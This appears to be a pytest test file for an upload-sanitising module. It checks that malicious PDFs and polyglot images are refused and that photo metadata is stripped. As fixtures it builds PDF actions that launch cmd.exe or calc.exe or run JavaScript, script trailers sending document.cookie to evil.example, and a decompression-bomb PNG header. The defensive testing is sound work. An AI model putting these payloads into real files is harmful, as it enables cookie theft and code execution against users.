"""Uploaded files are disarmed before they are stored: hostile PDFs and polyglots are refused, images are
re-encoded without what rode along. Files are made here with pikepdf and Pillow, as a scanner or a phone would."""

from __future__ import annotations

import io
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image

from chalicelib.domain import disarm as disarm_module
from chalicelib.domain.disarm import FileRefused, disarm
from chalicelib.domain.messages import MESSAGES

PDF, JPEG, PNG = "application/pdf", "image/jpeg", "image/png"
ORIENTATION, GPS_INFO, MAKE = 0x0112, 0x8825, 0x010F


def picture(width: int = 64, height: int = 32) -> Image.Image:
    """Not a flat colour, so that a turn of the picture shows in its pixels."""
    image = Image.new("RGB", (width, height), (240, 240, 230))
    image.paste((20, 20, 160), (0, 0, width // 4, height // 2))
    return image


def encoded(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def pdf_bytes(build=None, pages: int = 1) -> bytes:
    """A one-page PDF written by pikepdf; `build(pdf)` adds whatever the test is about."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    if build:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def refusal(data: bytes, declared: str) -> str:
    with pytest.raises(FileRefused) as refused:
        disarm(data, declared)
    return refused.value.detail_code


def javascript_action(source: str = "app.alert('x')") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(source))


# ---------------------------------------------------------------- PDF accepted

def test_a_scanned_pdf_from_pillows_pdf_writer_is_accepted_unchanged():
    scan = encoded(picture(850, 1100).convert("L"), "PDF", resolution=100)
    safe = disarm(scan, PDF)
    assert (safe.content, safe.content_type) == (scan, PDF)


def test_a_pdf_page_holding_a_jpeg_image_is_accepted():
    def add_scan(pdf):
        image = pdf.make_stream(encoded(picture(), "JPEG"), Type=pikepdf.Name.XObject,
                                Subtype=pikepdf.Name.Image, Width=64, Height=32, BitsPerComponent=8,
                                ColorSpace=pikepdf.Name.DeviceRGB, Filter=pikepdf.Name.DCTDecode)
        page = pdf.pages[0]
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
        page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")

    data = pdf_bytes(add_scan)
    assert disarm(data, PDF).content == data


def test_an_open_action_that_only_says_where_to_open_is_accepted():
    """LibreOffice writes `/OpenAction [page /XYZ null null 0]` into every PDF it exports."""
    def open_at_first_page(pdf):
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.XYZ, None, None, 0])

    assert disarm(pdf_bytes(open_at_first_page), PDF).content_type == PDF


def test_a_pdf_with_a_web_link_is_accepted():
    def add_link(pdf):
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 20],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://dichvucong.gov.vn")))]))

    assert disarm(pdf_bytes(add_link), PDF).content_type == PDF


# ---------------------------------------------------------------- PDF refused

def test_a_pdf_with_a_document_level_javascript_is_refused():
    def add_script(pdf):
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(javascript_action())])))

    assert refusal(pdf_bytes(add_script), PDF) == "file.pdf_active_content"


def test_a_pdf_whose_link_runs_javascript_is_refused():
    def add_link(pdf):
        pdf.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 20], A=javascript_action())])

    assert refusal(pdf_bytes(add_link), PDF) == "file.pdf_active_content"


@pytest.mark.parametrize("action", [
    pytest.param(lambda: javascript_action(), id="javascript"),
    pytest.param(lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/t")),
                 id="uri-fetched-on-opening"),
    pytest.param(lambda: pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")), id="launch"),
])
def test_a_pdf_with_an_open_action_is_refused(action):
    def add_open_action(pdf):
        pdf.Root.OpenAction = action()

    assert refusal(pdf_bytes(add_open_action), PDF) == "file.pdf_active_content"


def test_a_launch_action_hidden_in_a_pages_additional_actions_is_refused():
    def add_page_open_action(pdf):
        pdf.pages[0].AA = pikepdf.Dictionary(O=pdf.make_indirect(pikepdf.Dictionary(
            S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))))

    assert refusal(pdf_bytes(add_page_open_action), PDF) == "file.pdf_active_content"


def test_a_pdf_with_an_attachment_is_refused():
    def attach(pdf):
        pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/x")

    assert refusal(pdf_bytes(attach), PDF) == "file.pdf_embedded_files"


def test_a_pdf_with_a_file_attachment_annotation_is_refused():
    def annotate(pdf):
        spec = pikepdf.AttachedFileSpec(pdf, b"hello", filename="a.txt")
        pdf.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 10, 10], FS=spec.obj)])

    assert refusal(pdf_bytes(annotate), PDF) == "file.pdf_embedded_files"


@pytest.mark.parametrize("data", [
    pytest.param(b"%PDF-1.7\n<!DOCTYPE html><html><body><script>fetch('/x')</script></body></html>\n",
                 id="pdf-header-then-html"),
    pytest.param(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
                 id="catalog-without-pages"),
    pytest.param(b"%PDF-1.4\n%%EOF\n", id="header-only"),
    pytest.param(b"%PDF-x\n" + b"\x00" * 64, id="no-version"),
])
def test_what_is_not_a_well_formed_pdf_is_malformed(data):
    assert refusal(data, PDF) == "file.malformed"


def test_an_html_page_declared_as_a_pdf_is_a_type_mismatch():
    page = b"<!DOCTYPE html><html><body><h1>%PDF-1.7</h1><script>alert(1)</script></body></html>"
    with pytest.raises(FileRefused) as refused:
        disarm(page, PDF)
    assert refused.value.detail_code == "file.type_mismatch"
    assert refused.value.params == {"detected": "?", "declared": PDF}


def test_a_password_protected_pdf_is_refused():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    assert refusal(out.getvalue(), PDF) == "file.pdf_encrypted"


def test_a_pdf_with_more_pages_than_the_bound_is_refused_before_its_objects_are_walked(monkeypatch):
    monkeypatch.setattr(disarm_module, "MAX_PDF_PAGES", 2)
    assert refusal(pdf_bytes(pages=3), PDF) == "file.pdf_too_complex"
    assert disarm(pdf_bytes(pages=2), PDF).content_type == PDF


def test_a_pdf_that_also_holds_an_html_page_is_a_polyglot():
    clean = pdf_bytes()
    assert refusal(clean + b"<html><body><script>steal()</script></body></html>\n", PDF) == "file.polyglot"


def test_a_comment_after_a_pdfs_end_is_harmless():
    data = pdf_bytes() + b"% written by the scanner, job 42\n"
    assert disarm(data, PDF).content == data


def test_a_pdf_with_a_zip_after_its_end_is_a_polyglot():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.js", "WScript.Echo(1)")
    assert refusal(pdf_bytes() + archive.getvalue(), PDF) == "file.polyglot"


# ---------------------------------------------------------------- images

def phone_photo() -> bytes:
    """A JPEG as a phone takes it: stored landscape with EXIF orientation 6 (turn 90° clockwise to view),
    plus the maker and the place it was taken."""
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[MAKE] = "PhoneMaker"
    exif.get_ifd(GPS_INFO).update({1: "N", 2: (21.0, 1.0, 42.0)})
    return encoded(picture(64, 32), "JPEG", exif=exif, quality=90, comment=b"taken at home")


def test_a_phone_photo_is_stored_upright_without_its_metadata():
    original = phone_photo()
    safe = disarm(original, JPEG)
    assert safe.content_type == JPEG
    stored = Image.open(io.BytesIO(safe.content))
    assert stored.format == "JPEG" and stored.size == (32, 64), "turned as the orientation tag said"
    assert not stored.getexif() and "comment" not in stored.info and "icc_profile" not in stored.info
    assert b"PhoneMaker" not in safe.content and b"taken at home" not in safe.content
    # The blue corner, top-left as stored by the phone, is top-right once turned clockwise.
    red = stored.convert("RGB").getchannel("R")
    assert red.getpixel((28, 4)) < 120 < red.getpixel((4, 4))


def test_bytes_after_a_jpegs_end_are_gone_from_what_is_stored():
    """Phones append videos, gain maps and previews after the picture; none of it is kept."""
    original = phone_photo()
    for trailer in (b"\x00\x01\x02\x03" * 500, encoded(picture(), "JPEG"), b"\x00" * 64):
        safe = disarm(original + trailer, JPEG)
        assert safe.content.endswith(b"\xff\xd9") and safe.content == disarm(original, JPEG).content


@pytest.mark.parametrize("trailer", [
    pytest.param(b"<script>document.location='https://evil.example/?c='+document.cookie</script>", id="html-script"),
    pytest.param(b"\nalert(document.domain);fetch('https://evil.example/'+document.cookie)\n", id="bare-script"),
    pytest.param(b"%PDF-1.4\n1 0 obj << >> endobj\n", id="pdf"),
    pytest.param(b"PK\x03\x04" + b"\x14\x00" * 20, id="zip-entry"),
])
def test_a_jpeg_followed_by_another_format_is_a_polyglot(trailer):
    assert refusal(phone_photo() + trailer, JPEG) == "file.polyglot"


def test_a_jpeg_whose_comment_is_an_html_page_is_a_polyglot():
    sneaky = encoded(picture(), "JPEG", comment=b"<html><body onload=go()>")
    assert refusal(sneaky, JPEG) == "file.polyglot"


def test_a_png_keeps_its_pixels_and_transparency_but_not_its_text_chunks():
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Nguyễn Văn A, 12 Phố Huế")
    image = picture().convert("RGBA")
    image.putpixel((63, 31), (0, 0, 0, 0))
    safe = disarm(encoded(image, "PNG", pnginfo=info) + b"\x00" * 16, PNG)
    stored = Image.open(io.BytesIO(safe.content))
    assert safe.content_type == PNG and stored.mode == "RGBA" and stored.getpixel((63, 31))[3] == 0
    assert not stored.text and safe.content.endswith(b"IEND\xaeB`\x82")
    assert stored.tobytes() == image.tobytes()


def test_a_png_with_an_html_page_after_its_end_is_a_polyglot():
    assert refusal(encoded(picture(), "PNG") + b"<!doctype html><title>x</title>", PNG) == "file.polyglot"


def test_a_png_declaring_huge_dimensions_is_refused_before_it_is_decoded():
    small = bytearray(encoded(Image.new("L", (8, 8)), "PNG"))
    # Rewrite the header chunk's width and height (and its CRC) to 20000 x 20000: a decompression bomb's shape.
    small[16:24] = (20000).to_bytes(4, "big") * 2
    small[29:33] = zlib.crc32(bytes(small[12:29])).to_bytes(4, "big")
    assert refusal(bytes(small), PNG) == "file.image_too_large"


@pytest.mark.parametrize(("data", "declared"), [
    pytest.param(phone_photo()[:300], JPEG, id="truncated-jpeg"),
    pytest.param(b"\xff\xd8\xff\xe0" + b"\x00" * 64, JPEG, id="jpeg-magic-then-zeros"),
    pytest.param(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, PNG, id="png-magic-then-zeros"),
])
def test_an_image_that_does_not_decode_is_malformed(data, declared):
    assert refusal(data, declared) == "file.malformed"


def test_png_bytes_declared_as_jpeg_are_a_type_mismatch():
    with pytest.raises(FileRefused) as refused:
        disarm(encoded(picture(), "PNG"), JPEG)
    assert refused.value.params == {"detected": PNG, "declared": JPEG}


@pytest.mark.parametrize("code", ["file.malformed", "file.polyglot", "file.pdf_active_content",
                                  "file.pdf_embedded_files", "file.pdf_encrypted", "file.pdf_too_complex",
                                  "file.image_too_large", "file.type_mismatch"])
def test_every_refusal_has_a_vietnamese_and_an_english_message(code):
    vi, en = MESSAGES[code]
    assert vi and en and vi != en
